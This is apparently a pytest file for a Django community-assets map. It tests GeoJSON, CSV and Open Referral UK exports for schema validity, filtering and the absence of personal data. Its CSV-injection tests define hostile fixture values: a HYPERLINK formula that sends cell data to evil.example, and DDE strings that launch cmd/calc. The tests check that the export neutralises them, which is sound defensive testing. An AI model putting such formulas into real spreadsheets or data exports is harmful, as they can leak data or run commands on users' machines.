"""Open data: GeoJSON (RFC 7946, schema-valid), CSV, Open Referral UK 3.0 — no personal data."""

import csv
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from jsonschema import Draft7Validator, Draft202012Validator, FormatChecker
from referencing import Registry, Resource

from assets_map.models import Asset, Organisation, Service
from portal.themes.models import Theme

from .conftest import KILBURN

pytestmark = pytest.mark.django_db


def geojson_validator(shared_data):
    folder = shared_data / "schemas" / "geojson"
    resources = []
    for path in folder.glob("*.json"):
        schema = json.loads(path.read_text())
        if "$id" in schema:
            resources.append((schema["$id"], Resource.from_contents(schema)))
    registry = Registry().with_resources(resources)
    schema = json.loads((folder / "FeatureCollection.json").read_text())
    return Draft7Validator(schema, registry=registry)


@pytest.fixture
def published(map_page, make_asset):
    org = Organisation.objects.create(name="Citizens Advice Brent", charity_number="1077146",
                                      website="https://example.org/ca",
                                      public_email="someone@example.org")
    hub = make_asset("Harlesden Library", is_hub=True, organisation=org, postcode="NW10 8SE",
                     address="Craven Park Road, Harlesden, London", step_free_access=True,
                     public_email="librarian.jane@example.org", public_phone="020 0000 0000")
    hub.themes.add(Theme.objects.get(slug="housing"))
    import datetime

    hub.opening_hours.create(weekday=1, opens=datetime.time(9), closes=datetime.time(17))
    Service.objects.create(asset=hub, organisation=org, name="Advice drop-in", cost="Free",
                           eligibility="Everyone")
    kilburn = make_asset("Kilburn Library", at=KILBURN)
    Service.objects.create(asset=kilburn, name="Library lending")
    make_asset("Draft", status=Asset.DRAFT)
    return hub


def test_geojson_is_rfc7946_and_schema_valid(published, client, shared_data):
    response = client.get("/api/assets.geojson")
    assert response["Content-Type"] == "application/geo+json"
    data = response.json()
    geojson_validator(shared_data).validate(data)
    assert [f["properties"]["name"] for f in data["features"]] == [
        "Harlesden Library", "Kilburn Library"]
    hub = data["features"][0]
    lng, lat = hub["geometry"]["coordinates"]
    assert -1 < lng < 0 and 51 < lat < 52  # longitude first, as RFC 7946 says
    assert hub["properties"]["hub"] is True and hub["properties"]["themes"] == ["housing"]
    assert hub["properties"]["url"] == "/community-assets/harlesden-library/"
    assert hub["properties"]["neighbourhood"] == "Harlesden"
    assert "crs" not in data
    assert "@" not in response.content.decode()  # no email addresses at all


def test_geojson_filters_and_bbox(published, client):
    def names(query):
        return [f["properties"]["name"]
                for f in client.get(f"/api/assets.geojson?{query}").json()["features"]]

    assert names("hubs=on") == ["Harlesden Library"]
    assert names("theme=housing") == ["Harlesden Library"]
    assert names("neighbourhood=kilburn") == ["Kilburn Library"]
    assert names("bbox=-0.22,51.5,-0.19,51.6") == ["Kilburn Library"]
    assert names("postcode=NW6+6NN") == ["Kilburn Library", "Harlesden Library"]


@pytest.mark.parametrize(("query", "field"), [
    ("bbox=1,2,3", "bbox"), ("bbox=a,b,c,d", "bbox"), ("bbox=0,52,-1,51", "bbox"),
    ("theme=no-such-theme", "theme"), ("postcode=ZZ1+1ZZ", "postcode"),
])
def test_geojson_bad_parameters_are_400_with_a_message(published, client, query, field):
    response = client.get(f"/api/assets.geojson?{query}")
    assert response.status_code == 400 and field in response.json()["errors"]


def test_geojson_query_count_does_not_grow_with_assets(published, client, make_asset):
    client.get("/api/assets.geojson?hubs=on")  # warm the per-process caches (site root paths)
    with CaptureQueriesContext(connection) as few:
        client.get("/api/assets.geojson?q=library")
    for number in range(30):
        asset = make_asset(f"Library {number}")
        asset.themes.add(Theme.objects.get(slug="housing"))
    with CaptureQueriesContext(connection) as many:
        data = client.get("/api/assets.geojson?q=library").json()
    assert len(data["features"]) == 32
    assert len(many) == len(few)


def test_geojson_cache_is_invalidated_when_an_asset_changes(published, client):
    assert len(client.get("/api/assets.geojson").json()["features"]) == 2
    published.status = Asset.ARCHIVED
    published.save()
    assert len(client.get("/api/assets.geojson").json()["features"]) == 1


def test_csv_export_has_no_personal_contact_details(published, client):
    response = client.get("/api/assets.csv")
    text = response.content.decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert response["Content-Disposition"].startswith("attachment")
    assert [row["name"] for row in rows] == ["Harlesden Library", "Kilburn Library"]
    assert rows[0]["hub"] == "yes" and rows[0]["themes"] == "housing"
    assert "@" not in text and "020 0000" not in text


PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def hostile(map_page, make_asset):
    """Names a spreadsheet would run as formulas, from an organisation and an asset."""
    org = Organisation.objects.create(name=PAYLOAD)
    asset = make_asset("@SUM(1+1)*cmd|' /C calc'!A0", organisation=org, external_id="t:1",
                       summary="-2+3+cmd|' /C calc'!A0", address="\t=1+1, Harlesden")
    Service.objects.create(asset=asset, organisation=org, name="Advice drop-in")
    return asset


def test_csv_export_cannot_run_a_formula_in_an_organisation_or_asset(hostile, client):
    response = client.get("/api/assets.csv")
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    row = next(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["organisation"] == "'" + PAYLOAD
    assert row["name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["summary"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["address"] == "'\t=1+1, Harlesden"
    assert row["longitude"] == f"{hostile.longitude:.6f}"  # a negative number stays a number
    assert row["longitude"].startswith("-")


def test_csv_export_reimports_formula_like_names_exactly(hostile, client):
    from assets_map.importers import import_assets_csv

    report = import_assets_csv(client.get("/api/assets.csv").content)
    assert (report.created, report.updated, report.errors) == (0, 1, [])
    asset = Asset.objects.get(pk=hostile.pk)
    assert asset.name == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert asset.summary == "-2+3+cmd|' /C calc'!A0"
    assert asset.organisation.name == PAYLOAD


def test_open_referral_json_carries_names_exactly(hostile, client):
    """Open Referral is JSON for machines, not a spreadsheet: names are carried exactly (a
    quote would corrupt them for every API client). Whoever turns it into a spreadsheet must
    neutralise it; the portal's own CSV is /api/assets.csv (docs/data-formats.md)."""
    response = client.get("/api/openreferral/organizations")
    assert response["Content-Type"].startswith("application/json")
    assert "attachment" not in response.get("Content-Disposition", "")
    assert [o["name"] for o in response.json()["contents"]] == [PAYLOAD]


# --- Open Referral UK ---------------------------------------------------------------------------

def oruk_validator(shared_data, name):
    schema = json.loads((shared_data / "schemas" / "openreferral" / "uk-profile-3.0" / "compiled"
                         / f"{name}.json").read_text())
    return Draft202012Validator(schema, format_checker=FormatChecker())


PAGE_KEYS = {"total_items", "total_pages", "page_number", "size", "first_page", "last_page",
             "empty", "contents"}


@pytest.mark.parametrize(("endpoint", "schema"), [
    ("services", "service_list"), ("organizations", "organization_list"),
    ("service_at_locations", "service_at_location_list"),
])
def test_oruk_lists_validate_against_the_uk_profile(published, client, shared_data, endpoint,
                                                     schema):
    data = client.get(f"/api/openreferral/{endpoint}?per_page=1").json()
    assert set(data) == PAGE_KEYS
    assert data["total_pages"] == data["total_items"] and data["size"] == 1
    assert data["first_page"] and not data["empty"]
    validator = oruk_validator(shared_data, schema)
    for item in data["contents"]:
        validator.validate(item)
    second = client.get(f"/api/openreferral/{endpoint}?per_page=1&page=2").json()
    assert second["page_number"] == 2 or data["total_items"] == 1


def test_oruk_details_validate_and_hold_no_personal_data(published, client, shared_data):
    services = client.get("/api/openreferral/services").json()["contents"]
    assert {s["name"] for s in services} == {"Advice drop-in", "Library lending"}
    advice = next(s for s in services if s["name"] == "Advice drop-in")
    response = client.get(f"/api/openreferral/services/{advice['id']}")
    full = response.json()
    oruk_validator(shared_data, "service").validate(full)
    location = full["service_at_locations"][0]["location"]
    assert location["addresses"][0]["postal_code"] == "NW10 8SE"
    assert location["latitude"] == pytest.approx(51.538652)
    assert full["schedules"][0]["byday"] == "TU"
    assert full["organization"]["organization_identifiers"][0]["identifier"] == "1077146"
    assert "@" not in response.content.decode()
    org = client.get(f"/api/openreferral/organizations/{full['organization']['id']}").json()
    oruk_validator(shared_data, "organization").validate(org)
    sal_id = full["service_at_locations"][0]["id"]
    sal = client.get(f"/api/openreferral/service_at_locations/{sal_id}").json()
    oruk_validator(shared_data, "service_at_location").validate(sal)


def test_oruk_hides_unpublished_assets(published, client):
    draft = Asset.objects.get(name="Draft")
    service = Service.objects.create(asset=draft, name="Hidden service")
    assert client.get(f"/api/openreferral/services/{service.uuid}").status_code == 404
    assert client.get("/api/openreferral/services").json()["total_items"] == 2
    assert client.get("/api/openreferral/services?page=x").status_code == 400
